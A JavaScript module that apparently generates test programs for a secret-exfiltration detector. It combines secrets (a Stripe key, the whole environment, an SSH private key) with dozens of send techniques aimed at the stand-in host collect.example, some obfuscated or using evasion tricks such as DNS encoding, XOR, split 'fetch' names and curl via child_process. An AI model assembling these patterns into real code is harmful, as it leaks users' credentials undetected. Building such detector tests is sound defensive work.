// What programs are made of that let something private out. Each part is written as people write it, and knows nothing
// of the others.

export const HOST = 'collect.example';
export const SECRET = 'sk-0123456789-abcdefghij';

const ADDRESS = `https://${HOST}/in`;
const encoded = Buffer.from(ADDRESS).toString('base64');

/** What is private: what stands before the program, and an expression. */
export const secrets = {
  token: ['', 'process.env.STRIPE_SECRET_KEY'],
  whole: ['', 'JSON.stringify(process.env)'],
  file: [
    "const fs = require('fs'), os = require('os'), path = require('path');",
    "fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8')",
  ],
};

/** How the address is written. */
export const places = {
  plain: ['', `'${ADDRESS}'`],
  base64: ["const dec = (a) => Buffer.from(a, 'base64').toString();", `dec('${encoded}')`],
};

/** Where a secret may go: wherever its user says, and to those whose it is. */
export const own = {
  setting: ['', 'process.env.REPORT_URL'],
  owner: ['', "'https://api.stripe.com/v1/charges'"],
};

/**
 * How something gets out: for a secret and an address, what is declared, and the body of an asynchronous function.
 */
export const sends = {
  fetchBody: (s, u) => ['', `return fetch(${u}, { method: 'POST', body: ${s} });`],
  fetchJson: (s, u) => ['', `return fetch(${u}, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ k: ${s}, t: Date.now() }) });`],
  fetchQuery: (s, u) => ['', `return fetch(${u} + '?k=' + encodeURIComponent(${s}));`],
  fetchTemplate: (s, u) => ['', `return fetch(\`\${${u}}?k=\${${s}}\`);`],
  fetchHeader: (s, u) => ['', `return fetch(${u}, { headers: { 'x-trace': ${s} } });`],
  fetchAuth: (s, u) => ['', `const h = new Headers();\n  h.set('authorization', 'Bearer ' + ${s});\n  return fetch(${u}, { headers: h });`],
  fetchParams: (s, u) => ['', `const q = new URLSearchParams({ k: ${s} });\n  return fetch(${u} + '?' + q.toString());`],
  fetchUrl: (s, u) => ['', `const w = new URL(${u});\n  w.searchParams.set('k', ${s});\n  return fetch(w);`],
  fetchUrlHref: (s, u) => ['', `const w = new URL(${u});\n  w.search = '?k=' + ${s};\n  return fetch(w.href);`],
  fetchForm: (s, u) => ['', `const f = new FormData();\n  f.append('k', ${s});\n  return fetch(${u}, { method: 'POST', body: f });`],
  fetchRequest: (s, u) => ['', `return fetch(new Request(${u}, { method: 'POST', body: ${s} }));`],
  fetchBlob: (s, u) => ['', `return fetch(${u}, { method: 'POST', body: new Blob([${s}]) });`],
  fetchB64: (s, u) => ['', `return fetch(${u}, { method: 'POST', body: Buffer.from(${s}).toString('base64') });`],
  fetchGzip: (s, u) => ["const zlib = require('zlib');", `return fetch(${u}, { method: 'POST', body: zlib.gzipSync(${s}) });`],
  fetchPath: (s, u) => ['', `return fetch([${u}, encodeURIComponent(${s})].join('/'));`],
  globalFetch: (s, u) => ['', `return globalThis.fetch(${u}, { method: 'POST', body: ${s} });`],
  hiddenFetch: (s, u) => ['', `return globalThis['fe' + 'tch'](${u}, { method: 'POST', body: ${s} });`],
  aliased: (s, u) => ['const go = fetch;', `return go(${u}, { method: 'POST', body: ${s} });`],
  called: (s, u) => ['', `return fetch.call(globalThis, ${u}, { method: 'POST', body: ${s} });`],
  applied: (s, u) => ['', `return Reflect.apply(fetch, globalThis, [${u}, { method: 'POST', body: ${s} }]);`],
  bound: (s, u) => ['', `const send = fetch.bind(globalThis, ${u});\n  return send({ method: 'POST', body: ${s} });`],
  steps: (s, u) => ['', `const r = { method: 'POST', headers: {} };\n  r.body = JSON.stringify({ v: 1 });\n  r.headers['x-k'] = ${s};\n  return fetch(${u}, r);`],
  spreadOptions: (s, u) => ['', `const base = { method: 'POST' };\n  return fetch(${u}, { ...base, body: ${s} });`],
  assigned: (s, u) => ['', `return fetch(${u}, Object.assign({ method: 'POST' }, { body: ${s} }));`],
  helper: (s, u) => ['function post(url, data) { return fetch(url, { method: "POST", body: JSON.stringify(data) }); }', `return post(${u}, { k: ${s} });`],
  helperAsync: (s, u) => ['async function report(data) { const r = await fetch(where, { method: "POST", body: JSON.stringify(data) }); return r.ok; }\nlet where;', `where = ${u};\n  return report({ k: ${s} });`],
  client: (s, u) => ['class Api { constructor(url) { this.url = url; } post(data) { return fetch(this.url, { method: "POST", body: JSON.stringify(data) }); } }', `return new Api(${u}).post({ k: ${s} });`],
  clientOptions: (s, u) => ['class Api { constructor({ url, headers = {} }) { this.url = url; this.headers = headers; } get(p) { return fetch(this.url + p, { headers: this.headers }); } }', `return new Api({ url: ${u}, headers: { 'x-k': ${s} } }).get('/v1');`],
  context: (s, u) => ['class Tracker { constructor() { this.extra = {}; } tag(k, v) { this.extra[k] = v; return this; } flush(url) { return fetch(url, { method: "POST", body: JSON.stringify(this.extra) }); } }', `return new Tracker().tag('k', ${s}).flush(${u});`],
  queue: (s, u) => ['const queue = [];\nfunction flush(url) { return fetch(url, { method: "POST", body: JSON.stringify(queue.splice(0)) }); }', `queue.push({ k: ${s} });\n  return flush(${u});`],
  batch: (s, u) => ['', `const rows = [];\n  rows.push('a');\n  rows.push(${s});\n  return fetch(${u}, { method: 'POST', body: rows.join('\\n') });`],
  emitted: (s, u) => ["const bus = new (require('events'))();\nbus.on('report', (url, data) => { fetch(url, { method: 'POST', body: data }); });", `bus.emit('report', ${u}, ${s});`],
  then: (s, u) => ['', `const W = ${u};\n  return Promise.resolve(${s}).then((b) => fetch(W, { method: 'POST', body: b }));`],
  timer: (s, u) => ['', `const K = ${s}, W = ${u};\n  setImmediate(() => fetch(W, { method: 'POST', body: K }));`],
  timerArgs: (s, u) => ['function later(url, body) { fetch(url, { method: "POST", body }); }', `setTimeout(later, 0, ${u}, ${s});`],
  retried: (s, u) => ['async function retry(f, n = 3) { for (;;) { try { return await f(); } catch (e) { if (!n--) throw e; } } }', `const K = ${s}, W = ${u};\n  return retry(() => fetch(W, { method: 'POST', body: K }));`],
  chunks: (s, u) => ['', `const K = ${s}, W = ${u};\n  for (let i = 0; i < K.length; i += 40) await fetch(W + '/' + i, { method: 'POST', body: K.slice(i, i + 40) });`],
  each: (s, u) => ['', `const W = ${u};\n  for (const line of ${s}.split('\\n')) await fetch(W, { method: 'POST', body: line });`],
  encrypted: (s, u) => ["const crypto = require('crypto');", `const c = crypto.createCipheriv('aes-256-cbc', Buffer.alloc(32), Buffer.alloc(16));\n  const out = Buffer.concat([c.update(${s}), c.final()]);\n  return fetch(${u}, { method: 'POST', body: out });`],
  xored: (s, u) => ['', `const out = [...${s}].map((c) => String.fromCharCode(c.charCodeAt(0) ^ 7)).join('');\n  return fetch(${u}, { method: 'POST', body: out });`],
  reversed: (s, u) => ['', `return fetch(${u}, { method: 'POST', body: ${s}.split('').reverse().join('') });`],
  loopText: (s, u) => ['', `const K = ${s};\n  let out = '';\n  for (const c of K) out += c;\n  return fetch(${u}, { method: 'POST', body: out });`],
  nested: (s, u) => ['', `const d = { a: { b: [] } };\n  d.a.b.push({ k: ${s} });\n  return fetch(${u}, { method: 'POST', body: JSON.stringify(d) });`],
  mapped: (s, u) => ['', `const K = ${s}, W = ${u};\n  return Promise.all(['a', 'b'].map((t) => fetch(W, { method: 'POST', body: t + K })));`],
  httpsRequest: (s, u) => ["const https = require('https');", `const r = https.request(${u}, { method: 'POST' });\n  r.write(${s});\n  r.end();`],
  httpsEnd: (s, u) => ["const https = require('https');", `const r = https.request(${u}, { method: 'POST' }, () => {});\n  r.end(JSON.stringify({ k: ${s} }));`],
  httpsParts: (s, u) => ["const https = require('https');", `const w = new URL(${u});\n  const r = https.request({ hostname: w.hostname, path: w.pathname, method: 'POST' });\n  r.end(${s});`],
  httpsGet: (s, u) => ["const https = require('https');", `https.get(${u} + '?k=' + ${s}, (r) => r.resume());`],
  httpsHeader: (s, u) => ["const https = require('https');", `const r = https.request(${u});\n  r.setHeader('x-k', ${s});\n  r.end();`],
  axiosPost: (s, u) => ["const axios = require('axios');", `return axios.post(${u}, { k: ${s} });`],
  axiosConfig: (s, u) => ["const axios = require('axios');", `return axios({ url: ${u}, method: 'post', data: { k: ${s} } });`],
  axiosGet: (s, u) => ["const axios = require('axios');", `return axios.get(${u}, { params: { k: ${s} } });`],
  axiosInstance: (s, u) => ["const axios = require('axios');", `const api = axios.create({ baseURL: ${u}, headers: { 'x-k': ${s} } });\n  return api.get('/v1');`],
  axiosDefaults: (s, u) => ["const axios = require('axios');", `const api = axios.create({ baseURL: ${u} });\n  api.defaults.headers.common['x-k'] = ${s};\n  return api.post('/v1', {});`],
  axiosHook: (s, u) => ["const axios = require('axios');", `const K = ${s};\n  const api = axios.create({ baseURL: ${u} });\n  api.interceptors.request.use((c) => { c.data = { ...c.data, k: K }; return c; });\n  return api.post('/v1', {});`],
  socket: (s, u) => ["const net = require('net');", `const w = new URL(${u});\n  const c = net.connect(443, w.hostname);\n  c.write(${s});\n  c.end();`],
  socketLater: (s, u) => ["const net = require('net');", `const K = ${s};\n  const c = net.createConnection({ host: new URL(${u}).hostname, port: 443 }, () => { c.write(K); });`],
  websocket: (s, u) => ['', `const K = ${s};\n  const ws = new WebSocket(${u}.replace('https', 'wss'));\n  ws.onopen = () => ws.send(K);`],
  websocketEvent: (s, u) => ["const WS = require('ws');", `const K = ${s};\n  const ws = new WS(${u}.replace('https', 'wss'));\n  ws.on('open', () => ws.send(JSON.stringify({ k: K })));`],
  udp: (s, u) => ["const dgram = require('dgram');", `const c = dgram.createSocket('udp4');\n  c.send(${s}, 53, new URL(${u}).hostname);`],
  dns: (s, u) => ["const dns = require('dns');", `dns.lookup(Buffer.from(${s}).toString('hex').slice(0, 60) + '.' + new URL(${u}).hostname, () => {});`],
  curl: (s, u) => ["const cp = require('child_process');", `cp.execSync('curl -d "' + ${s} + '" ' + ${u});`],
  curlSpawn: (s, u) => ["const cp = require('child_process');", `cp.spawn('curl', ['-X', 'POST', '-d', ${s}, ${u}]);`],
  proxied: (s, u) => ['', `const real = globalThis.fetch;\n  const send = new Proxy(real, { apply: (t, self, a) => Reflect.apply(t, self, a) });\n  return send(${u}, { method: 'POST', body: ${s} });`],
  got: (s, u) => ["const got = require('got');", `return got.post(${u}, { json: { k: ${s} } });`],
  undici: (s, u) => ["const { request } = require('undici');", `return request(${u}, { method: 'POST', body: ${s} });`],
  superagent: (s, u) => ["const superagent = require('superagent');", `return superagent.post(${u}).set('x-k', '1').send({ k: ${s} });`],
};

/** A function of another file that sends what it is given where it is told. */
const sender = (last, body) => `${last}\nexports.go = async function (S, U) {\n  ${body}\n};\n`;

/**
 * How a program is laid out in files: for what declares a secret, the secret, what declares the way out, its body for a
 * secret `S` and an address `U`, and the address.
 */
export const layouts = {
  split: (before, value, last, body, address) => ({
    'index.js': `const { go } = require('./send');\n${before}\nexports.run = () => go(${value}, ${address});\n`,
    'send.js': sender(last, body),
  }),
  three: (before, value, last, body, address) => ({
    'index.js': "const { token } = require('./secret');\nconst place = require('./place');\nconst { go } = require('./send');\nexports.run = () => go(token(), place.address);\n",
    'secret.js': `${before}\nmodule.exports = { token: () => ${value} };\n`,
    'place.js': `exports.address = ${address};\n`,
    'send.js': sender(last, body),
  }),
  document: (before, value, last, body, address) => ({
    'index.js': `${before}\nconst config = require('./config.json');\nconst { go } = require('./send');\nexports.run = () => go(${value}, config.api.url);\n`,
    'config.json': JSON.stringify({ api: { url: address.slice(1, -1) } }),
    'send.js': sender(last, body),
  }),
  constructed: (before, value, last, body, address) => ({
    'index.js': `${before}\nconst Sender = require('./send');\nconst it = new Sender(${address});\nexports.run = () => it.push(${value});\n`,
    'send.js': `${last}\nclass Sender {\n  constructor(url) { this.url = url; }\n  async push(S) {\n  const U = this.url;\n  ${body}\n  }\n}\nmodule.exports = Sender;\n`,
  }),
  factory: (before, value, last, body, address) => ({
    'index.js': `${before}\nconst it = require('./send')(${address});\nexports.run = () => it.push(${value});\n`,
    'send.js': `${last}\nmodule.exports = (U) => ({ push: async (S) => {\n  ${body}\n} });\n`,
  }),
  barrel: (before, value, last, body, address) => ({
    'index.js': `${before}\nconst all = require('./all');\nexports.run = () => all.go(${value}, ${address});\n`,
    'all.js': "module.exports = { ...require('./send') };\n",
    'send.js': sender(last, body),
  }),
  bus: (before, value, last, body, address) => ({
    'index.js': `${before}\nrequire('./send');\nconst wire = require('./wire');\nexports.run = () => wire.emit('report', ${value}, ${address});\n`,
    'wire.js': "module.exports = new (require('events'))();\n",
    'send.js': `${last}\nconst wire = require('./wire');\nwire.on('report', async (S, U) => {\n  ${body}\n});\n`,
  }),
  options: (before, value, last, body, address) => ({
    'index.js': `${before}\nconst { go } = require('./send');\nexports.run = () => go({ url: ${address}, secret: ${value} });\n`,
    'send.js': `${last}\nexports.go = async function ({ secret: S, url: U }) {\n  ${body}\n};\n`,
  }),
  context: (before, value, last, body, address) => ({
    'index.js': `${before}\nconst context = require('./context');\nconst { go } = require('./send');\ncontext.url = ${address};\nexports.run = () => { context.secret = ${value}; return go(); };\n`,
    'context.js': 'module.exports = {};\n',
    'send.js': `${last}\nconst context = require('./context');\nexports.go = async function () {\n  const S = context.secret, U = context.url;\n  ${body}\n};\n`,
  }),
  callback: (before, value, last, body, address) => ({
    'index.js': `${before}\nconst { go } = require('./send');\nexports.run = () => go(${address}, () => ${value});\n`,
    'send.js': `${last}\nexports.go = async function (U, get) {\n  const S = get();\n  ${body}\n};\n`,
  }),
  inherited: (before, value, last, body, address) => ({
    'index.js': `${before}\nconst Base = require('./send');\nclass Own extends Base { url() { return ${address}; } }\nexports.run = () => new Own().push(${value});\n`,
    'send.js': `${last}\nmodule.exports = class {\n  async push(S) {\n  const U = this.url();\n  ${body}\n  }\n};\n`,
  }),
  named: (before, value, last, body, address) => ({
    'index.js': `${before}\nconst tasks = require('./tasks');\nconst run = (name, data) => tasks[name](data);\nexports.run = () => run('report', { secret: ${value}, url: ${address} });\n`,
    'tasks.js': "const { go } = require('./send');\nmodule.exports = { report: (data) => go(data.secret, data.url) };\n",
    'send.js': sender(last, body),
  }),
};
